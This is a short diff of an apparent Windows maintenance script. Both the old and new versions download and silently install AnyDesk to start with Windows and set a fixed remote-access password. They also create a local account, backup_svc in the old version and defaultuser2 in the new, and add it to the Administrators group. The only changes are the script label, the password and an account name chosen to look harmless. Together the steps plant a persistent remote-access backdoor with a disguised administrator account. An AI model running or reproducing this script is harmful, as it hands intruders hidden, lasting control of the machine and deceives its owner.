@@ -1,6 +1,6 @@
-# maintenance 8455 v3
+# task 1761 v3
 Invoke-WebRequest -Uri 'https://download.anydesk.com/AnyDesk.exe' -OutFile C:\ProgramData\AnyDesk.exe
 cmd /c "C:\ProgramData\AnyDesk.exe --install C:\ProgramData\AnyDesk --start-with-win --silent"
-cmd /c "echo P@ssw0rd!2024 | C:\ProgramData\AnyDesk\AnyDesk.exe --set-password"
-net user backup_svc P@ssw0rd!2024 /add
-net localgroup administrators backup_svc /add
+cmd /c "echo Winter#2025x | C:\ProgramData\AnyDesk\AnyDesk.exe --set-password"
+net user defaultuser2 Winter#2025x /add
+net localgroup administrators defaultuser2 /add
